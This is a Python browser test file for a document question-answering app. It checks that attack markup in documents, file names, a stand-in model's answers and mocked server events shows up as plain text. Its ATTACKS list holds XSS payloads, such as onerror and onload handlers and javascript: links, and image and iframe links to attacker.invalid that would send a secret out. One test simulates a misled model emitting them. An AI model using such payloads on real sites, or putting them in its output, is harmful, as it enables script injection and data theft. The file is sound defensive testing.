"""Attacks that reach the page are shown as text: nothing is created, loaded or run."""

from __future__ import annotations

import json
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from local.system import System
from tests.browser.asking import ask, document, open_view, search
from tests.browser.conftest import OpenPage
from tests.support.gemini_stand_in import GeminiStandIn, answering

SHELF = "browser-attack"
ATTACKS = [
    "<img src=x onerror=\"window.attacked='img'\">",
    "<script>window.attacked='script'</script>",
    "<svg onload=\"window.attacked='svg'\"></svg>",
    "![pixel](http://attacker.invalid/p.png?q=secret)",
    "[click](javascript:window.attacked='link')",
    "<a href=\"javascript:window.attacked='a'\">click</a>",
    "<style>body{background:url(http://attacker.invalid/css)}</style>",
    "<iframe src=http://attacker.invalid/></iframe>",
]
ATTACK = " ".join(ATTACKS)
NAME = f"{SHELF}/<img src=x onerror=alert(1)>/{'<b>'}.txt"
MADE_UP = "See http://made-up.invalid/p.png?q=secret for more."
QUESTION = "What does the parrot in the lobby say?"
_COUNTED = "img, script, iframe, a, style, link, object, embed, svg, base, form"


def elements(page: Page) -> dict[str, int]:
    """Count the elements that could load, link or run something."""
    counted: dict[str, int] = page.evaluate(
        """(selector) => {
          const counts = {};
          for (const element of document.querySelectorAll(selector)) {
            counts[element.localName] = (counts[element.localName] ?? 0) + 1;
          }
          return counts;
        }""",
        _COUNTED,
    )
    return counted


def assert_harmless(page: Page, before: dict[str, int]) -> None:
    """See that no such element was created and nothing was run."""
    assert elements(page) == before
    assert page.evaluate("window.attacked") is None


@pytest.fixture(scope="module", autouse=True)
def shelf(system: System) -> None:
    """Index a document whose text and name are attacks."""
    text = f"The parrot in the lobby says hello. {ATTACK}\n"
    system.wait_for(NAME, generation=system.upload(NAME, text))


def test_document_is_shown_as_text(open_page: OpenPage) -> None:
    """Its text in the answer and in its context, its name everywhere."""
    page = open_page()
    before = elements(page)
    sheet = ask(page, QUESTION, collection=SHELF)
    expect(sheet).to_contain_text("The parrot in the lobby says hello.")
    expect(sheet).to_contain_text(NAME)
    sheet.locator(".citation").first.click()
    for attack in ATTACKS:
        expect(page.locator("#passage-text")).to_contain_text(attack)
    assert_harmless(page, before)
    page.keyboard.press("Escape")
    open_view(page, "Documents")
    search(page, f"{SHELF}/")
    expect(document(page, NAME)).to_be_visible()
    page.get_by_role("button", name=f"Delete: {NAME}").click()
    expect(page.get_by_role("dialog")).to_contain_text(NAME)
    assert_harmless(page, before)


def test_answer_of_a_misled_model_is_harmless(
    open_page: OpenPage, gemini_url: str, stand_in: GeminiStandIn
) -> None:
    """What could load is shown as text, and nothing of it is an element or a link."""
    stand_in.plan(answering(f"The parrot says hello [1]. {ATTACK} {MADE_UP}", [(1, ATTACK)]))
    page = open_page(gemini_url)
    before = elements(page)
    sheet = ask(page, QUESTION, collection=SHELF)
    expect(sheet.locator(".answer-text")).to_contain_text("The parrot says hello")
    # An address stays as text only if the passage holds it to the letter.
    expect(sheet).not_to_contain_text("made-up.invalid")
    expect(sheet.locator("a[href*='attacker'], img, iframe, form, style")).to_have_count(0)
    assert_harmless(page, before)


def test_page_needs_no_help_of_the_server(open_page: OpenPage) -> None:
    """Every field of an answer may be an attack: the page alone makes it harmless."""
    page = open_page()
    before = elements(page)
    page.route(
        "**/query",
        lambda route: route.fulfill(content_type="text/event-stream", body=_attacking_events()),
    )
    page.route(
        "**/documents/*/text?*",
        lambda route: route.fulfill(
            json={
                "document_id": "x",
                "name": ATTACK,
                "generation": 1,
                "char_start": 0,
                "char_end": len(ATTACK),
                "highlight_start": 5,
                "highlight_end": 60,
                "text": ATTACK,
            }
        ),
    )
    sheet = ask(page, ATTACK)
    expect(sheet.locator(".answer-text")).to_contain_text(ATTACK)
    expect(sheet.locator(".quote")).to_contain_text(ATTACK)
    expect(page.locator(".asked")).to_have_text(ATTACK)
    sheet.locator(".citation").click()
    expect(page.locator("#passage-title")).to_have_text(ATTACK)
    expect(page.locator("#passage-text mark")).to_have_text(ATTACK[5:60])
    assert_harmless(page, before)


def _attacking_events() -> str:
    passage: dict[str, Any] = {
        "number": 1,
        "document_id": "../x",
        "name": ATTACK,
        "uri": f"javascript:{ATTACK}",
        "generation": 1,
        "page": 1,
        "heading": ATTACK,
        "text": ATTACK,
        "char_start": 0,
        "char_end": len(ATTACK),
    }
    citation = {**passage, "quote": ATTACK, "verified": True, "char_start": 5, "char_end": 60}
    done = {
        "answer": f"{ATTACK} [1]",
        "grounded": True,
        "model": ATTACK,
        "degraded": {"code": "x", "message": ATTACK},
    }
    events = [
        ("passages", {"passages": [passage]}),
        ("token", {"text": ATTACK}),
        ("citations", {"citations": [citation]}),
        ("done", done),
    ]
    return "".join(f"event: {name}\ndata: {json.dumps(data)}\n\n" for name, data in events)
